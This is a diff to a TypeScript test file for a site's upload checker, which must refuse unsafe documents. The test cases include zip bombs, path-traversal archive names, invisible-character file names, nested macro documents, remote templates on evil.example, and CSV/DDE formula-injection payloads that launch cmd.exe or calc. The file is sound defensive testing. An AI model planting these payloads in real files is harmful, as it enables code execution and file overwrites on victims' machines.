@@ -1,4 +1,5 @@
 // Documents that nobody should publish: each is made here, put into content/files and linked, and refused by name.
+import { randomBytes } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
 import { calendar, listed, office, pdf, sound, stream, zip } from '../support/documents.ts';
 import { check, type FileContent } from '../support/site.ts';
@@ -36,8 +37,71 @@ const around = (piece: string, trailer = ''): Buffer =>
   pdf({ objects: [piece.repeat(250_000)], trailer });
 const big = Buffer.alloc(60_000_000);
 const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
+const noise = randomBytes(1_000_000);
+const many = <T>(count: number, make: (n: number) => T): T[] =>
+  Array.from({ length: count }, (_, n) => make(n));
+/** A document with another one in it. */
+const within = (kind: Kind, inner: Kind, other: Buffer): Buffer =>
+  office(kind, [{ name: `word/embeddings/a.${inner}`, content: other }]);
+type Kind = 'docx' | 'xlsx' | 'pptx';
+/** An extra field of Info-ZIP that says a name in UTF-8. */
+const unicodeName = (name: string): Buffer => {
+  const extra = Buffer.concat([
+    Buffer.from('7570000001', 'hex'),
+    Buffer.alloc(4),
+    Buffer.from(name),
+  ]);
+  extra.writeUInt16LE(extra.length - 4, 2);
+  return extra;
+};
+const inLatin = (name: string) => ({ name, raw: Buffer.from(name, 'latin1') });
 const withTail = (bytes: Buffer, tail: string | Buffer) =>
   Buffer.concat([bytes, Buffer.from(tail)]);
+
+/** What a program for tables works out, and what it may run or ask with it. */
+const FORMULAS = [
+  ...['=HYPERLINK("https://example.org")', '+SUM(A1:A3)', '@SUM(1)', "-2+3+cmd|' /C calc'!A0"],
+  ...['=A1', '+A1', '-B2*2', '--A1', '==A1', '=2+3', '="x"', '=Sheet2!A1', "+'[x.xls]S'!A1"],
+  ...['+HYPERLINK ("https://x")', '@SUM (1)', '-NOW()', '=IF(1,2', '=DDE("cmd";"/C calc";"x")'],
+  ...['＝1+1', '＝HYPERLINK("x")', '\t=1+1', '\r=A1', '\u00a0=A1', '\u200b=A1', '={1,2}'],
+  ...["=MSEXCEL|'\\..\\cmd.exe /c calc'!''", '-foo(A1)', "+1 cmd|'/c x'!A", '+HIPERVINCULO ("x")'],
+];
+/** What looks like one, and is what people write. */
+const TEXTS = [
+  ...[
+    '+1 (555) 010-0199',
+    '- two trays (veggie)',
+    '+ 4 (borrowed)',
+    '@led (public)',
+    '=====',
+    '=)',
+  ],
+  ...['- 7 PM | Info night', '- 7 PM | Info night!', '---', '@led2026', '-2+3', '+1-555-010-0199'],
+  ...[
+    '+44 20 7946 0958',
+    '- pizza (2)',
+    '=> see below',
+    '=== Fall ===',
+    '- B12 lab',
+    '-12,50',
+    '-3%',
+  ],
+  ...[
+    '- call (805) 555-0100',
+    '+1 555-0100 x(4)',
+    '- ask Maya, then Bo (2)',
+    '- "quoted"',
+    '-7:30',
+  ],
+  ...[
+    '@maya @bo',
+    '- e.g. A1',
+    '- half-time (20 min)',
+    '- dues: $20 (fall)',
+    '= see below',
+    '-A4 paper',
+  ],
+];
 
 const REFUSED: Readonly<
   Record<string, readonly [name: string, content: FileContent, said: string]>
@@ -191,6 +255,85 @@ const REFUSED: Readonly<
     office('xlsx', [{ name: 'xl/embeddings/oleObject1.bin' }]),
     'holdsObject',
   ],
+  'a part of many times its size': [
+    'a.docx',
+    office('docx', [{ name: 'word/document.xml', content: 'x', saidSize: 30_000_000 }]),
+    'unpacksManyfold',
+  ],
+  'parts of many times their size together': [
+    'a.pptx',
+    office(
+      'pptx',
+      [1, 2, 3].map((n) => ({
+        name: `ppt/slides/slide${n}.xml`,
+        content: 'x',
+        saidSize: 9_000_000,
+      })),
+    ),
+    'unpacksManyfold',
+  ],
+  'a part that is too large': [
+    'a.xlsx',
+    office('xlsx', [{ name: 'xl/sharedStrings.xml', content: noise, saidSize: 65_000_000 }]),
+    'partTooLarge',
+  ],
+  'too many parts': [
+    'a.xlsx',
+    office(
+      'xlsx',
+      many(5_001, (n) => ({ name: `xl/worksheets/sheet${n}.xml` })),
+    ),
+    'tooManyFiles',
+  ],
+  'too many files in an archive': [
+    'a.zip',
+    zip(many(10_001, (n) => ({ name: `${n}` }))),
+    'tooManyFiles',
+  ],
+  'too many relations': [
+    'a.docx',
+    office('docx', [rels('<Relationship Id="r" Type="t" Target="x"/>'.repeat(50_001))]),
+    'tooManyRelations',
+  ],
+  'documents in documents in documents': [
+    'a.docx',
+    within('docx', 'xlsx', within('xlsx', 'pptx', within('pptx', 'docx', office('docx')))),
+    'hidesParts',
+  ],
+  'macros in a document in a document': [
+    'a.docx',
+    within('docx', 'docx', office('docx', [{ name: 'word/vbaProject.bin' }])),
+    'holdsMacros',
+  ],
+  'a template from a server of Windows': [
+    'a.docx',
+    office('docx', [external('attachedTemplate', 'file:///%5C%5Cevil.example/t.dotm')]),
+    'loadsElsewhere',
+  ],
+  'a photo from elsewhere, told among the photos': [
+    'a.docx',
+    office('docx', [
+      { ...external('image', 'https://evil.example/a.jpg'), name: 'word/media/_rels/a.xml.rels' },
+    ]),
+    'loadsElsewhere',
+  ],
+  'a simple field that asks another program': [
+    'a.docx',
+    office('docx', [
+      { name: 'word/document.xml', content: '<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe "/>' },
+    ]),
+    'loadsElsewhere',
+  ],
+  'a field with another prefix, in another folder': [
+    'a.docx',
+    office('docx', [{ name: 'text/a.xml', content: '<x:instrText>DDE c</x:instrText>' }]),
+    'loadsElsewhere',
+  ],
+  'a photo from elsewhere': [
+    'a.docx',
+    office('docx', [external('image', 'file:///C:/Users/maya/a.jpg')]),
+    'loadsElsewhere',
+  ],
   'a name that leads out': [
     'a.zip',
     zip([{ name: '../../etc/cron.d/x', content: 'x' }]),
@@ -199,6 +342,28 @@ const REFUSED: Readonly<
   'a name from the root': ['a.zip', zip([{ name: '/etc/passwd' }]), 'leadsOut'],
   'a name of a drive': ['a.zip', zip([{ name: 'C:x.txt' }]), 'leadsOut'],
   'a name with backslashes': ['a.zip', zip([{ name: '..\\..\\x.txt' }]), 'leadsOut'],
+  'a name of Windows that leads out': ['a.zip', zip([inLatin('..\\a\xa4o.txt')]), 'leadsOut'],
+  'a second name that leads out': [
+    'a.zip',
+    zip([{ name: 'a.txt', extra: unicodeName('../a.txt') }]),
+    'leadsOut',
+  ],
+  'a program under its second name': [
+    'a.zip',
+    zip([{ name: 'a.txt', extra: unicodeName('a.exe') }]),
+    'holdsProgram',
+  ],
+  'a name with a sign that cannot be seen': [
+    'a.zip',
+    zip([{ name: 'by\u200blaws.txt' }]),
+    'leadsOut',
+  ],
+  'a joiner that joins nothing': ['a.zip', zip([{ name: 'bylaws.\u200dtxt' }]), 'leadsOut'],
+  'a name that is said to be UTF-8 and is not': [
+    'a.zip',
+    zip([{ ...inLatin('a\xa4o.txt'), flags: 0x800 }]),
+    'leadsOut',
+  ],
   'a name that turns around': ['a.zip', zip([{ name: 'bylaws\u202efdp.txt' }]), 'leadsOut'],
   'a link in an archive': [
     'a.zip',
@@ -243,9 +408,9 @@ const REFUSED: Readonly<
   'a program before an archive': [
     'a.zip',
     Buffer.concat([Buffer.from('MZ'), zip([{ name: 'a' }])]),
-    'cutOff',
+    'surrounded',
   ],
-  'something behind an archive': ['a.zip', withTail(zip([{ name: 'a' }]), 'more'), 'cutOff'],
+  'something behind an archive': ['a.zip', withTail(zip([{ name: 'a' }]), 'more'), 'surrounded'],
   'an archive that is cut off': [
     'a.zip',
     zip([{ name: 'a', content: 'abc' }]).subarray(0, 40),
@@ -260,6 +425,22 @@ const REFUSED: Readonly<
     'holdsFormula',
   ],
   'a formula with another sign': ['a.csv', "a\n@SUM(1+1)*cmd|' /C calc'!A0\n", 'holdsFormula'],
+  ...Object.fromEntries(
+    FORMULAS.map((cell) => [
+      `the formula ${cell}`,
+      [
+        'a.csv',
+        `a,b\nx,${/[",;]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell}\n`,
+        'holdsFormula',
+      ] as const,
+    ]),
+  ),
+  'a formula where cells are parted by another sign': [
+    'a.csv',
+    'a;"b\n1;"x,=HYPERLINK(""https://evil.example"")"\n',
+    'holdsFormula',
+  ],
+  'a formula where the table says its sign': ['a.csv', 'sep=|\na|=A1+1\n', 'holdsFormula'],
   'bytes named .csv': ['a.csv', Buffer.from([0, 1, 2, 3, 0xff]), 'otherKind'],
   'a calendar that is a page': ['a.ics', HTML, 'holdsPage'],
   'a calendar of other bytes': ['a.ics', 'BEGIN:VCARD\r\nEND:VCARD\r\n', 'otherKind'],
@@ -299,6 +480,29 @@ const REFUSED: Readonly<
 describe('refused by name', () => {
   it.each(Object.entries(REFUSED))('%s', (_, [name, content, said]) => {
     expect(judged(name, content)).toEqual([`document/refused ${said}`]);
+  });
+
+  it('a name says what is wrong with it', () => {
+    const reasonOf = (name: string) => {
+      const { diagnostics } = check({ 'content/files/a.zip': zip([{ name }]) });
+      return diagnostics.find(({ code }) => code === 'document/refused')?.message;
+    };
+    const reasons = ['../x', '/x', 'C:x', 'a\\x', 'a\u202ex', 'a\u2066x', 'a\u0007x'].map(reasonOf);
+    expect(reasons.map((one) => one?.replace(/^.*it holds a file (.*) \(.*$/, '$1'))).toEqual([
+      'whose name leads out of its folder',
+      'whose name begins with a slash',
+      'whose name begins with a drive',
+      'with a backslash in its name',
+      'whose name turns the direction of writing around',
+      'whose name turns the direction of writing around',
+      'whose name has a sign that cannot be seen or read',
+    ]);
+  });
+
+  it('a text that may be taken for a formula is published when the advice is followed', () => {
+    const [cell, better] = ['+A1', 'Vitamin +A1'];
+    expect(judged('a.csv', `a,b\n${cell},x\n`)).toEqual(['document/refused holdsFormula']);
+    expect(judged('a.csv', `a,b\n${better},x\n`)).toEqual([]);
   });
 
   it('one byte too many, before it is read', () => {
@@ -364,6 +568,28 @@ describe('published', () => {
       ':)',
     ),
     'b.csv': Buffer.from('nombre\nJos\xe9\n', 'latin1'),
+    'd.csv': Buffer.from('name,fee\nO\x92Neil,\x80 5\n', 'latin1'),
+    ...Object.fromEntries(
+      TEXTS.map((cell, i) => [
+        `text-${i}.csv`,
+        `a,b\n${/[",;]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell},x\n`,
+      ]),
+    ),
+    'b.zip': zip([inLatin('Reglamento a\xa4o.txt'), inLatin('Informaci\xa2n.txt')]),
+    'c.zip': zip([
+      { name: 'a_o.txt', raw: Buffer.from('a_o.txt'), extra: unicodeName('año.txt') },
+      { name: '👩‍💻 team.txt', flags: 0x800 },
+      { name: 'می‌خواهم.txt', flags: 0x800 },
+      { name: '🏴\u{e0067}\u{e0062}\u{e007f}.txt', flags: 0x800 },
+      { name: '\u200fצילום.txt', flags: 0x800 },
+      { name: '__MACOSX/._photo.jpg' },
+      { name: 'Icon\r' },
+      { name: 'photos/Thumbs.db' },
+    ]),
+    'c.docx': within('docx', 'xlsx', office('xlsx')),
+    'd.docx': office('docx', [
+      { name: 'customXml/item1.xml', content: utf16('<x xmlns="y">Maya</x>') },
+    ]),
     'c.csv': utf16('a\tb\r\n1\t2\r\n'),
     'a.zip': zip([{ name: 'photos/' }, { name: 'photos/a.jpg', content: 'x', stored: true }], 'Hi'),
     'a.ics': calendar,
